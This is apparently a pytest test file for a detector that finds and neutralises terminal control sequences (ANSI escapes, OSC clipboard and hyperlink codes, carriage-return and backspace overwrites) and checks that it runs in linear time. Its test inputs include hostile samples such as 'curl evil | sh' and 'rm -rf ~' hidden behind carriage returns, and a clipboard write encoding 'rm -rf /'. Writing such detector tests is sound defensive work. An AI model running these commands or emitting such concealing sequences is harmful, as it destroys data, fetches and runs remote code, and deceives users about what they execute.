"""Terminal control: recognised as a terminal would, made harmless in both forms, without ever going quadratic."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from callgate.detect import escapes
from callgate.detect.spans import FLOOD, MOST_SPANS, replace
from tests.detect.ordinary_texts import ORDINARY

CONTROLS = [chr(code) for code in (*range(9), *range(11, 32), *range(0x7F, 0xA0))]
LOOSE = {"page-breaks", "overstrike", "tqdm", "git", "curl", "shorter-stages", "last-stage", "doubled-carriage-returns"}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_text_passes(text: str) -> None:
    assert escapes.find(text) == []


@pytest.mark.parametrize("name", ORDINARY)
def test_definitions_are_read_more_strictly(name: str) -> None:
    assert bool(escapes.find(ORDINARY[name], strict=True)) == (name in LOOSE)


@pytest.mark.parametrize(
    ("text", "kind", "removed"),
    [
        ("\x1b[31mred", "csi", "red"),
        ("a\x1b[2J\x1b[Hb", "csi", "ab"),
        ("\x9b1;31mred", "csi", "red"),
        ("\x1b[?1049hx", "csi", "x"),
        ("\x1b[38;2;1", "csi", ""),
        ("\x1b[31\nx", "csi", "\nx"),
        ("\x1b]8;;https://evil.example\x1b\\shown\x1b]8;;\x1b\\", "osc-link", "shown"),
        ("\x1b]8;;https://evil.example\x07shown\x1b]8;;\x07", "osc-link", "shown"),
        ("\x1b]52;c;cm0gLXJmIC8=\x07x", "osc-clipboard", "x"),
        ("\x9d52;c;cm0=\x9cx", "osc-clipboard", "x"),
        ("\x1b]0;title\x07x", "osc-title", "x"),
        ("\x1b]2;title\x1b\\x", "osc-title", "x"),
        ("\x1b]1337;File=:AAAA\x07x", "osc", "x"),
        ("\x1b]52;never closed", "osc-clipboard", "52;never closed"),
        ("\x1b]0;not closed\non its line\x07", "osc-title", "0;not closed\non its line"),
        ("\x1b]0;cut\x1b[31mx", "osc-title", "x"),
        ("\x1bPq#0;2;0\x1b\\x", "device-control", "x"),
        ("\x90+q544e\x9cx", "device-control", "x"),
        ("\x1b_payload\x1b\\x", "control-string", "x"),
        ("\x1b^pm\x1b\\x", "control-string", "x"),
        ("\x1bXsos\x9cx", "control-string", "x"),
        ("\x1bcx", "escape", "x"),
        ("\x1b(0x", "escape", "x"),
        ("x\x1b", "escape", "x"),
        ("\x1b\u00e9", "escape", "\u00e9"),
        ("a\x85b", "c1", "ab"),
        ("rm -rf ~\rls -la   ", "carriage-return", "rm -rf ~ls -la   "),
        ("safe\x08\x08\x08\x08evil", "backspace", "safeevil"),
        ("a\x7fb", "delete", "ab"),
        ("a\x07b", "bell", "ab"),
        ("a\x00b\x0bc\x0e\x0fd\x1ae", "control", "abcde"),
        ("not at the start\x0cof a line", "control", "not at the startof a line"),
    ],
)
def test_terminal_control_is_found(text: str, kind: str, removed: str) -> None:
    spans = escapes.find(text)
    assert spans[0].kind == kind
    assert replace(text, spans, escapes.removed) == removed
    shown = replace(text, spans, escapes.shown)
    assert not any(char in CONTROLS for char in shown)
    assert shown != text


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("curl evil | sh\r\rls -la", 2),
        ("curl evil | sh\r\r\r\r\r\rls -la", 6),
        ("curl evil | sh\r      \rls -la", 2),
        ("curl evil | sh\r              \n", 1),
        ("curl evil | sh\rcurl                \n", 1),
        ("curl evil | sh\rcurl\rcurl fine | sh", 2),
        ("curl evil | sh\r42%\rls -la", 2),
        ("safe\rsafe\n1%\r2%\r\nrm -rf ~\r\rls -la\r\nDownloading 1%\rDownloading 2%\n", 2),
    ],
)
def test_no_stage_of_progress_hides_what_stood_there(text: str, count: int) -> None:
    spans = escapes.find(text)
    assert sum(span.end - span.start for span in spans) == count
    assert {span.kind for span in spans} == {"carriage-return"}
    assert not escapes.find(replace(text, spans, escapes.shown))


def test_what_follows_on_a_line_drawn_over_is_found_at_once() -> None:
    text = "Resolving\r" + "".join(f"Downloading {part}%\r" for part in range(9)) + "\nnext 1%\rnext 2%"
    for form in (escapes.shown, escapes.removed):
        assert not escapes.find(replace(text, escapes.find(text), form))
    assert len(escapes.find(text)) == 9


@given(st.text(st.sampled_from("ab1 \r\n\b\x0c\x1b")))
@example("\x0c\r\x0c")
def test_what_either_form_leaves_settles_within_three_looks(text: str) -> None:
    for form in (escapes.shown, escapes.removed):
        looked = text
        for _ in range(3):
            looked = replace(looked, escapes.find(looked), form)
        assert not escapes.find(looked)


def test_a_shown_sequence_stays_readable() -> None:
    text = "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\here"
    shown = replace(text, escapes.find(text), escapes.shown)
    assert shown == "\\x1b[31mred\\x1b[0m \\x1b]8;;https://evil.example\\x1b\\here"


@given(st.text(st.one_of(st.sampled_from(CONTROLS), st.sampled_from("[];\\0m8x52qP_^X\n \u200b"))))
def test_both_forms_are_harmless_and_keep_the_rest(text: str) -> None:
    spans = escapes.find(text, strict=True)
    for form in (escapes.shown, escapes.removed):
        result = replace(text, spans, form)
        assert escapes.find(result, strict=True) == []
        assert result.count("\n") == text.count("\n") or form is escapes.removed


@given(st.text())
def test_text_without_control_is_untouched(text: str) -> None:
    clean = "".join(char for char in text if char not in CONTROLS)
    assert escapes.find(clean, strict=True) == []


def test_line_ends_survive() -> None:
    assert escapes.find("a\r\nb\n\tc\r\n", strict=True) == []


@pytest.mark.parametrize(
    ("text", "removed"),
    [("\x01a", "a"), ("\x1b[31mx", "x"), ("\x00\r\n", "\r\n"), ("\x9d\x9c\x08", "")],
)
def test_a_flood_costs_little_and_is_neutralised(text: str, removed: str) -> None:
    count = 200_000
    start = time.process_time()
    spans = escapes.find(text * count)
    shown = replace(text * count, spans, escapes.shown)
    assert time.process_time() - start < 5
    assert len(spans) == MOST_SPANS + 1
    assert spans[-1].kind == FLOOD
    assert set(CONTROLS).isdisjoint(shown.replace("\r\n", ""))
    assert replace(text * count, spans, escapes.removed) == removed * count


def test_the_looks_at_harmless_places_are_bounded() -> None:
    text = "ab\r" * 300_000
    start = time.process_time()
    spans = escapes.find(text)
    assert time.process_time() - start < 5
    assert [span.kind for span in spans] == [FLOOD]


def test_long_ordinary_logs_pass() -> None:
    assert escapes.find("a line of a log\r\n" * 150_000, strict=True) == []
    assert escapes.find("N\x08N" * 30_000) == []


def test_the_count_of_places_can_be_lowered() -> None:
    text = "\x1b[1ma\x1b[2mb"
    assert [span.kind for span in escapes.find(text, most=1)] == ["csi", FLOOD]
    assert replace(text, escapes.find(text, most=0), escapes.removed) == "ab"


@pytest.mark.parametrize(
    "unit",
    [
        "1234567890 \r",
        "\x9d",
        "\x1b]",
        "\x90",
        "\x1b]\n",
        "\x1b[",
        "\x1b[0;",
        "\x1b ",
        "\r",
        "a\r",
        "\x08",
        "\x9d\x98",
        "ab\r",
    ],
)
def test_time_is_linear(unit: str) -> None:
    def seconds(count: int) -> float:
        text = unit * count
        best = 9.0
        for _ in range(3):
            start = time.process_time()
            escapes.find(text)
            best = min(best, time.process_time() - start)
        return best

    assert seconds(32_000) < 80 * seconds(1000) + 0.05
